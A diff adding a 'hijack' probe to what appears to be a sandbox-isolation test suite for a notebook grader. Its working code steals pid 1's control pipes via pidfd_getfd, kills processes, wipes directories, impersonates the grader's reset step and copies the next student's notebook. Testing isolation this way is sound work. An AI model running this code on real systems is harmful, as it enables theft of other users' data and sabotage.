@@ -266,6 +266,81 @@ attempt("canary", lambda: write("/tmp/kinbook-canary.txt"))
 attempt("left", leave)
 attempt("socket", lambda: os.remove("/run/kinbook/zygote/fork.sock") or "removed")
 """,
+    # the grader's command and event pipes, taken from bubblewrap's init (pid 1) — reopened through /proc or
+    # copied with pidfd_getfd —, and a daemon that answers the next "reset" in the zygote's place, lives on and
+    # reads the next student's notebook
+    "hijack": """import shutil, signal
+def descriptors():
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    seen, taken = {}, {}
+    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
+        try:
+            for fd in os.listdir(f"/proc/{pid}/fd"):
+                seen[f"{pid}/{fd}"] = os.readlink(f"/proc/{pid}/fd/{fd}")
+        except OSError:
+            pass
+        pidfd = libc.syscall(434, int(pid), 0)  # pidfd_open, pidfd_getfd: the same numbers on every architecture
+        for fd in range(8 if pidfd >= 0 else 0):
+            got = libc.syscall(438, pidfd, fd, 0)
+            if got >= 0:
+                taken[f"{pid}/{fd}"] = os.readlink(f"/proc/self/fd/{got}")
+                os.close(got)
+    return {"seen": seen, "taken": taken}
+def control_pipes():
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    pidfd = libc.syscall(434, 1, 0)
+    fds = [libc.syscall(438, pidfd, n, 0) for n in (0, 1)]
+    if min(fds) < 0:
+        fds = [os.open("/proc/1/fd/0", os.O_RDONLY), os.open("/proc/1/fd/1", os.O_WRONLY)]
+    kinds = [os.readlink(f"/proc/self/fd/{fd}") for fd in fds]
+    if not all(k.startswith("pipe:") for k in kinds):
+        raise PermissionError(f"pid 1 holds no pipes: {kinds}")
+    return fds
+def hijack():
+    r, w = os.pipe()
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            try:
+                cmd, evt = control_pipes()
+                os.write(w, b"taken: %d" % os.getpid())
+            except BaseException as exc:
+                os.write(w, ("refused: " + type(exc).__name__ + ": " + str(exc)).encode()[:200])
+                os._exit(0)
+            os.kill(2, signal.SIGSTOP)  # the zygote stops hearing the grader
+            os.read(cmd, 64)            # which says "reset"
+            for pid in os.listdir("/proc"):
+                if pid.isdigit() and int(pid) not in (1, 2, os.getpid()):
+                    try:
+                        os.kill(int(pid), signal.SIGKILL)
+                    except OSError:
+                        pass
+            time.sleep(0.3)
+            for d in ("/home/student", "/tmp", "/run/kinbook/work"):
+                for name in os.listdir(d):
+                    p = os.path.join(d, name)
+                    shutil.rmtree(p, ignore_errors=True) if os.path.isdir(p) else os.unlink(p)
+            os.write(evt, b"clean\\n")  # in the zygote's place
+            select.select([cmd], [], [], 30)
+            os.kill(2, signal.SIGCONT)   # which now forks the next student's run
+            for _ in range(600):
+                time.sleep(0.05)
+                try:
+                    with open("/home/student/submission.ipynb", "rb") as f, open("/tmp/kinbook-stolen", "wb") as g:
+                        g.write(f.read())
+                except OSError:
+                    pass
+            os._exit(0)
+        os._exit(0)
+    os.close(w)
+    os.wait()
+    return os.read(r, 300).decode()
+import select, time
+attempt("descriptors", descriptors)
+attempt("hijack", hijack)
+""",
     # a daemon in its own session that outlives the notebook, if it can
     "daemon": """def daemon():
     import time
